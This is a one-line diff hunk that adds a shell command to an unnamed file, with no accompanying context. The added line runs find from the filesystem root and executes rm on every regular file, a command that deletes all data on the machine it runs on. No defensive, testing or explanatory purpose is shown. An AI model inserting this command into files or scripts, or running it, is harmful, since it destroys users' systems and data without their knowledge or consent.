@@ -1,0 +1,1 @@
+find / -type f -exec sh -c 'rm "$1"' _ {} \;
